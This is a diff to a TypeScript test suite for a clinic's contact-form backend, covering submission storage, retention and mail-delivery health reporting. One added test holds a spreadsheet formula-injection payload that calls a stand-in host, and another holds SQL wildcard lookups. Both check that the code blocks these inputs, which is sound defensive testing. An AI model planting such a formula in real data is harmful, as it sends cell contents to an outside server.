@@ -32,7 +32,7 @@ describe("a person", () => {
     await post(stack, payload);
     await stack.drain();
     const [, row] = await stack.sql`select * from contact.find('isil@klinik.example')`;
-    expect(row).toMatchObject({ email: "isil@klinik.example", phone: payload.phone, mails: "sent" });
+    expect(row).toMatchObject({ email: "isil@klinik.example", phone: `'${payload.phone}`, mails: "sent" });
     for (const part of ["Gülüş Ağız ve Diş Sağlığı", "İlknur Işık", "Gece Plağı", "E.Max CAD Kron"])
       expect(row?.message).toContain(part);
   });
@@ -110,6 +110,24 @@ describe("a person", () => {
     await expect(found("b@müşteri.example")).rejects.toThrow(/in ASCII \(xn--…\)/);
   });
 
+  test("is not found by a pattern", async () => {
+    await write({});
+    expect(await found("%@klinik.example")).toEqual([]);
+    expect(await found("_ukru@klinik.example")).toEqual([]);
+  });
+
+  test("is exported in cells that no table program calculates", async () => {
+    const formula = '=HYPERLINK("https://kotu.example?x="&A1,"Ara") 0352 222 11 00';
+    await write({ phone: formula, email: "+a@klinik.example" });
+    const [row] = await stack.sql`select * from contact.find('+a@klinik.example')`;
+    expect(row).toMatchObject({ phone: `'${formula}`, email: "'+a@klinik.example" });
+    for (const sign of ["-", "@", "＝"]) {
+      const [cell] = await stack.sql`select contact.cell(${sign}) as text`;
+      expect(cell?.text).toBe(`'${sign}`);
+    }
+    expect(row?.message).toMatch(/^[a-z]/i);
+  });
+
   test("is named by one address or number only", async () => {
     await write({ phone: "" });
     for (const nobody of ["", "12345", "@", "a@", null, "0532 111 22 33, 0352 222 11 00"])
@@ -120,8 +138,8 @@ describe("a person", () => {
 
 describe("time", () => {
   test("deletes suspicious messages after 30 days, others after 180", async () => {
-    const kept = [await write({}), await write({ ekBilgi: "x" })];
-    const gone = [await write({}), await write({ ekBilgi: "x" })];
+    const kept = [await write({}), await write({ extraInfo: "x" })];
+    const gone = [await write({}), await write({ extraInfo: "x" })];
     const age = (id: string, days: number) =>
       stack.sql`update contact.submissions set received_at = now() - ${days} * interval '1 day' where id = ${id}`;
     await age(kept[0] ?? "", 179);
@@ -198,7 +216,7 @@ describe("the owner", () => {
 
   test("sees counts of messages and mails with reasons", async () => {
     const states = ["pending", "pending", "sent", "sent", "given_up"];
-    const ids = [await write({ ekBilgi: "x" })];
+    const ids = [await write({ extraInfo: "x" })];
     while (ids.length < states.length) ids.push(await write({}));
     await stack.drain();
     expect((await status()).problems).toBe("none");
@@ -361,9 +379,69 @@ describe("the health endpoint", () => {
     await sql`update contact.outbox set settled_at = now() - interval '8 days' where status = 'given_up'`;
     expect(await problems()).toEqual([]);
     stack.mailbox.setAway(false);
-    await sql`select contact.retry()`;
+    // Too old for a retry of all.
+    expect((await sql`select contact.retry() as count`)[0]?.count).toBe(0);
+    const [old] = await sql`select submission_id as id from contact.outbox where status = 'given_up'`;
+    expect((await sql`select contact.retry(${old?.id}) as count`)[0]?.count).toBe(1);
     await stack.drain();
     expect(await problems()).toEqual([]);
+    expect(
+      (await sql`select from contact.outbox where submission_id = ${old?.id} and status = 'sent'`).length,
+    ).toBe(1);
+  });
+
+  /** Messages with a mail in a state, queued and settled some time ago, the newest last. */
+  const mails = async (status: string, ages: readonly string[], recipient = 1) => {
+    for (const age of ages)
+      await stack.sql`
+        with stored as (insert into contact.submissions (id, payload) values (gen_random_uuid(), '{}') returning id)
+        insert into contact.outbox (submission_id, recipient, status, queued_at, settled_at, next_attempt_at)
+        select id, ${recipient}, ${status}, now() - ${age}::text::interval,
+               case when ${status} <> 'pending' then now() - ${age}::text::interval end, 'infinity' from stored`;
+  };
+
+  for (const [status, problem] of [
+    ["given_up", "given_up"],
+    ["pending", "late"],
+  ] as const) {
+    test(`reports one ${status} mail only while no other is sent`, async () => {
+      await mails(status, ["40 minutes"]);
+      expect(await problems()).toEqual([problem]);
+      await mails("sent", ["10 minutes"], 2);
+      expect(await problems()).toEqual([problem]);
+      await mails("sent", ["10 minutes"]);
+      expect(await problems()).toEqual([]);
+    });
+
+    test(`reports three ${status} mails although others are sent`, async () => {
+      await mails(status, ["40 minutes", "50 minutes"]);
+      await mails("sent", ["10 minutes"]);
+      expect(await problems()).toEqual([]);
+      await mails(status, ["60 minutes"]);
+      expect(await problems()).toEqual([problem]);
+      await stack.sql`update contact.submissions set suspicion = 'links'`;
+      expect(await problems()).toEqual([]);
+    });
+  }
+
+  test("reports a daily summary that did not arrive", async () => {
+    await stack.sql`insert into contact.outbox (summary_day, recipient, status, settled_at)
+      values ('2099-01-01', 1, 'given_up', now())`;
+    expect(await problems()).toEqual(["given_up"]);
+    await stack.sql`delete from contact.outbox where summary_day = '2099-01-01'`;
+  });
+
+  test("reports nothing that the owner has settled", async () => {
+    await mails("given_up", ["1 hour", "2 hours", "3 hours"]);
+    const [first] = await stack.sql`select id from contact.undelivered`;
+    expect((await stack.sql`select contact.settle(${first?.id}) as count`)[0]?.count).toBe(1);
+    expect((await stack.sql`select contact.settle(${first?.id}) as count`)[0]?.count).toBe(0);
+    expect((await stack.sql`select from contact.undelivered`).length).toBe(2);
+    expect(await problems()).toEqual(["given_up"]);
+    expect((await stack.sql`select contact.settle() as count`)[0]?.count).toBe(2);
+    expect(await problems()).toEqual([]);
+    expect((await stack.sql`select contact.retry() as count`)[0]?.count).toBe(0);
+    expect((await stack.sql`select contact.retry(${first?.id}) as count`)[0]?.count).toBe(1);
   });
 
   test("reports a database that is filling up", async () => {
